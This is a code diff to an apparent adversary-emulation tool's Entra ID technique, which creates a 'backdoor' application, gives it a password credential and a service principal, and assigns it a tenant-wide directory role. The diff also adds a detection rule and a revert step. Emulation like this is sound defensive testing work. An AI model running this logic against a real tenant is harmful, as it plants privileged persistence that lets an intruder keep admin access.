@@ -41,23 +41,30 @@ Using [Entra ID audit logs](https://learn.microsoft.com/en-us/entra/identity/mon
 - <code>Update application – Certificates and secrets management</code>
 - <code>Add member to role</code>
 `,
-		Platform:           stratus.EntraID,
-		IsIdempotent:       false,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
-		Detonate:           detonate,
-		Revert:             revert,
+		Platform:              stratus.EntraID,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		MitreAttackTechniques: []string{"T1136.003"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"properties.message": {"Add member to role"}, "properties.targetResources.type": {"ServicePrincipal"}},
+			},
+			FalsePositives: []string{"Administrators granting directory roles to applications"},
+		},
+		DetonateWithContext: detonate,
+		RevertWithContext:   revert,
 	})
 }
 
 const MaliciousApplicationName = "Stratus Red Team Backdoor Application"
 
-func detonate(_ map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, _ map[string]string, providers stratus.CloudProviders) error {
 	graphClient := providers.EntraId().GetGraphClient()
 
 	log.Println("Creating malicious Entra ID application")
 	application := graphmodels.NewApplication()
 	application.SetDisplayName(ptr.String(MaliciousApplicationName))
-	response, err := graphClient.Applications().Post(context.Background(), application, nil)
+	response, err := graphClient.Applications().Post(ctx, application, nil)
 	if err != nil {
 		return errors.New("could not create Entra ID application: " + err.Error())
 	}
@@ -65,7 +72,7 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 	log.Println("Creating password credential on malicious application")
 	newCredentials := graphmodels.NewPasswordCredential()
 	newCredentials.SetDisplayName(ptr.String("stratus red team"))
-	newCredentialsResponse, err := graphClient.Applications().ByApplicationId(*response.GetId()).AddPassword().Post(context.Background(), nil, nil)
+	newCredentialsResponse, err := graphClient.Applications().ByApplicationId(*response.GetId()).AddPassword().Post(ctx, nil, nil)
 	if err != nil {
 		return errors.New("could not create application credentials: " + err.Error())
 	}
@@ -73,7 +80,7 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 	log.Println("Creating a service principal for the application")
 	servicePrincipal := graphmodels.NewServicePrincipal()
 	servicePrincipal.SetAppId(response.GetAppId())
-	spResponse, err := graphClient.ServicePrincipals().Post(context.Background(), servicePrincipal, nil)
+	spResponse, err := graphClient.ServicePrincipals().Post(ctx, servicePrincipal, nil)
 	if err != nil {
 		return errors.New("could not create service principal: " + err.Error())
 	}
@@ -83,7 +90,7 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 	roleAssignment.SetRoleDefinitionId(ptr.String("62e90394-69f5-4237-9190-012177145e10"))
 	roleAssignment.SetPrincipalId(spResponse.GetId())
 	roleAssignment.SetDirectoryScopeId(ptr.String("/"))
-	_, err = graphClient.RoleManagement().Directory().RoleAssignments().Post(context.Background(), roleAssignment, nil)
+	_, err = graphClient.RoleManagement().Directory().RoleAssignments().Post(ctx, roleAssignment, nil)
 	if err != nil {
 		return errors.New("could not assign role to application: " + err.Error())
 	}
@@ -112,11 +119,11 @@ az login --service-principal --allow-no-subscriptions \
 	return nil
 }
 
-func revert(_ map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, _ map[string]string, providers stratus.CloudProviders) error {
 	graphClient := providers.EntraId().GetGraphClient()
 
 	log.Println("Listing applications to find the malicious Entra ID application")
-	response, err := graphClient.Applications().Get(context.Background(), nil)
+	response, err := graphClient.Applications().Get(ctx, nil)
 	if err != nil {
 		return errors.New("could not retrieve applications: " + err.Error())
 	}
@@ -128,7 +135,7 @@ func revert(_ map[string]string, providers stratus.CloudProviders) error {
 	}
 
 	var applicationId string
-	err = iterator.Iterate(context.Background(), func(application *graphmodels.Application) bool {
+	err = iterator.Iterate(ctx, func(application *graphmodels.Application) bool {
 		if *application.GetDisplayName() == MaliciousApplicationName {
 			applicationId = *application.GetId()
 			return false
@@ -144,7 +151,7 @@ func revert(_ map[string]string, providers stratus.CloudProviders) error {
 	}
 
 	log.Println("Deleting malicious Entra ID application")
-	err = graphClient.Applications().ByApplicationId(applicationId).Delete(context.Background(), nil)
+	err = graphClient.Applications().ByApplicationId(applicationId).Delete(ctx, nil)
 	if err != nil {
 		return errors.New("could not delete Entra ID application: " + err.Error())
 	}